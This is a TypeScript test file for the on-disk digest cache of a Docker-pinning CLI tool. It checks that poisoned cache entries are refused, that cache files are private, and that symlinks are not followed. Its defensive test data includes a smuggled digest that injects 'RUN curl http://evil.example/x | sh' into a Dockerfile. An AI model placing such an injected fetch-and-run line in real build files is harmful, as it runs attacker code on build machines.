// The on-disk digest cache of `bollwerk pin`: what it reads back is checked before it reaches a
// file, and what it writes is private and written without following links.
import assert from 'node:assert/strict';
import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { runPin } from '../../cli/src/pin';
import { cachedClient, fileCache, isValidResolution } from '../../host/src/registry/cache';
import type { RegistryClient, Resolution } from '../../host/src/registry/client';
import { parseReference } from '../../host/src/registry/reference';
import { manifestHeaders, startFake, type FakeServer } from './fake-registry';
import { freePort, removeTempDirs, tempDir } from './harness';

const GOOD = `sha256:${'a'.repeat(64)}`;
const FAR = Date.now() + 3600_000;

const poisoned: { name: string; digest: unknown }[] = [
  { name: 'a newline and a RUN line', digest: `sha256:${'a'.repeat(64)}\nRUN curl http://evil.example/x | sh` },
  { name: 'a carriage return', digest: `sha256:${'a'.repeat(64)}\r` },
  { name: 'a space and a stage name', digest: `sha256:${'a'.repeat(64)} AS evil` },
  { name: 'upper-case hex', digest: `sha256:${'A'.repeat(64)}` },
  { name: '63 digits', digest: `sha256:${'a'.repeat(63)}` },
  { name: 'another algorithm', digest: `md5:${'a'.repeat(32)}` },
  { name: 'a number', digest: 42 },
];

describe('digest cache validation', () => {
  it('accepts sha256 and 64 lower-case hex digits only', () => {
    assert.ok(isValidResolution({ ok: true, digest: GOOD, mediaType: 'm', multiPlatform: false }));
    for (const p of poisoned) assert.ok(!isValidResolution({ ok: true, digest: p.digest, mediaType: 'm', multiPlatform: false }), p.name);
    assert.ok(!isValidResolution({ ok: true, digest: GOOD, mediaType: 'm' }), 'multiPlatform missing');
    assert.ok(!isValidResolution(null));
  });
  it('cachedClient asks the registry again instead of using an invalid entry', async () => {
    let asked = 0;
    const inner: RegistryClient = { resolve: async (): Promise<Resolution> => (asked++, { ok: true, digest: GOOD, mediaType: 'm', multiPlatform: false }) };
    const bad = { ok: true, digest: poisoned[0]!.digest, mediaType: 'm', multiPlatform: false } as Resolution & { ok: true };
    const client = cachedClient(inner, { get: () => bad, set: () => undefined });
    const ref = parseReference('127.0.0.1:5000/a:1');
    assert.ok(ref.ok);
    assert.deepEqual(await client.resolve(ref.ref), { ok: true, digest: GOOD, mediaType: 'm', multiPlatform: false });
    assert.equal(asked, 1);
  });
});

describe('digest cache file', () => {
  let registry: FakeServer;
  const digest = `sha256:${'b'.repeat(64)}`;
  before(async () => {
    registry = await startFake(() => ({ status: 200, headers: manifestHeaders(digest), body: '{}' }));
  });
  after(async () => {
    await registry.stop();
    removeTempDirs();
  });

  const pin = async (cwd: string, home: string, ...args: string[]): Promise<{ code: number; out: string; err: string }> => {
    let out = '';
    let err = '';
    const env = { HOME: home, XDG_CACHE_HOME: join(home, 'cache'), DOCKER_CONFIG: join(home, 'docker'), PATH: process.env.PATH, LANG: 'C' };
    const code = await runPin(args, { stdout: { write: (s: string) => (out += s) }, stderr: { write: (s: string) => (err += s) }, cwd, env });
    return { code, out, err };
  };
  const project = (from: string): string => {
    const dir = tempDir('project');
    writeFileSync(join(dir, 'Dockerfile'), `FROM ${from}\nUSER 10001\n`);
    writeFileSync(join(dir, '.bollwerk.yaml'), 'pinning:\n  timeoutMs: 1500\n');
    return dir;
  };

  for (const p of poisoned) {
    it(`a poisoned entry (${p.name}) is never written into a Dockerfile`, async () => {
      const home = tempDir('home');
      const ref = `127.0.0.1:${await freePort()}/team/app:1.0`;
      mkdirSync(join(home, 'cache', 'bollwerk'), { recursive: true });
      writeFileSync(join(home, 'cache', 'bollwerk', 'digests.json'), JSON.stringify({ [ref]: { value: { ok: true, digest: p.digest, mediaType: '', multiPlatform: false }, expires: FAR } }));
      const dir = project(ref);
      const before = readFileSync(join(dir, 'Dockerfile'), 'utf8');
      const r = await pin(dir, home);
      assert.equal(readFileSync(join(dir, 'Dockerfile'), 'utf8'), before);
      assert.equal(r.code, 1);
      assert.match(r.err, /refused the connection/);
    });
  }

  it('a valid entry is used without asking the registry', async () => {
    const home = tempDir('home');
    const ref = `127.0.0.1:${await freePort()}/team/app:1.0`;
    mkdirSync(join(home, 'cache', 'bollwerk'), { recursive: true });
    writeFileSync(join(home, 'cache', 'bollwerk', 'digests.json'), JSON.stringify({ [ref]: { value: { ok: true, digest: GOOD, mediaType: '', multiPlatform: false }, expires: FAR } }));
    const dir = project(ref);
    const r = await pin(dir, home);
    assert.equal(r.code, 0, r.err);
    assert.equal(readFileSync(join(dir, 'Dockerfile'), 'utf8'), `FROM ${ref}@${GOOD}\nUSER 10001\n`);
  });

  it('writes the file 0600 in a 0700 folder, and makes an existing folder 0700', async () => {
    const home = tempDir('home');
    const r = await pin(project(`${registry.host}/team/app:1.0`), home);
    assert.equal(r.code, 0, r.err);
    const folder = join(home, 'cache', 'bollwerk');
    assert.equal(statSync(folder).mode & 0o777, 0o700);
    assert.equal(statSync(join(folder, 'digests.json')).mode & 0o777, 0o600);
    assert.equal(JSON.parse(readFileSync(join(folder, 'digests.json'), 'utf8'))[`${registry.host}/team/app:1.0`].value.digest, digest);
    chmodSync(folder, 0o755);
    assert.equal((await pin(project(`${registry.host}/team/app:2.0`), home)).code, 0);
    assert.equal(statSync(folder).mode & 0o777, 0o700);
  });

  it('replaces a symbolic link at the cache path instead of writing through it, and does not read through it', async () => {
    const home = tempDir('home');
    const folder = join(home, 'cache', 'bollwerk');
    mkdirSync(folder, { recursive: true, mode: 0o700 });
    const victim = join(tempDir('victim'), 'bashrc');
    const planted = JSON.stringify({ [`${registry.host}/team/app:1.0`]: { value: { ok: true, digest: GOOD, mediaType: '', multiPlatform: false }, expires: FAR } });
    writeFileSync(victim, planted);
    symlinkSync(victim, join(folder, 'digests.json'));
    const dir = project(`${registry.host}/team/app:1.0`);
    const r = await pin(dir, home);
    assert.equal(r.code, 0, r.err);
    assert.equal(readFileSync(victim, 'utf8'), planted, 'the link target is unchanged');
    assert.ok(lstatSync(join(folder, 'digests.json')).isFile(), 'the link was replaced by a file');
    assert.equal(readFileSync(join(dir, 'Dockerfile'), 'utf8'), `FROM ${registry.host}/team/app:1.0@${digest}\nUSER 10001\n`, 'the linked entry was not used');
  });

  it('does not write into a cache folder that is a symbolic link', async () => {
    const home = tempDir('home');
    const elsewhere = tempDir('elsewhere');
    mkdirSync(join(home, 'cache'), { recursive: true });
    symlinkSync(elsewhere, join(home, 'cache', 'bollwerk'));
    const r = await pin(project(`${registry.host}/team/app:1.0`), home);
    assert.equal(r.code, 0, r.err);
    assert.ok(!existsSync(join(elsewhere, 'digests.json')));
  });

  it('fileCache round-trips valid entries and drops expired and invalid ones', () => {
    const path = join(tempDir('cache'), 'sub', 'digests.json');
    let now = 1000;
    const c = fileCache(path, 60, () => now);
    c.set('a/b:1', { ok: true, digest: GOOD, mediaType: 'm', multiPlatform: true });
    c.save();
    const raw = JSON.parse(readFileSync(path, 'utf8')) as Record<string, { expires: number }>;
    raw['bad/x:1'] = { ...raw['a/b:1']!, value: { ok: true, digest: 'sha256:zz', mediaType: '', multiPlatform: false } } as never;
    writeFileSync(path, JSON.stringify(raw));
    const again = fileCache(path, 60, () => now);
    assert.deepEqual(again.get('a/b:1'), { ok: true, digest: GOOD, mediaType: 'm', multiPlatform: true });
    assert.equal(again.get('bad/x:1'), undefined);
    now += 61_000;
    assert.equal(fileCache(path, 60, () => now).get('a/b:1'), undefined);
  });
});
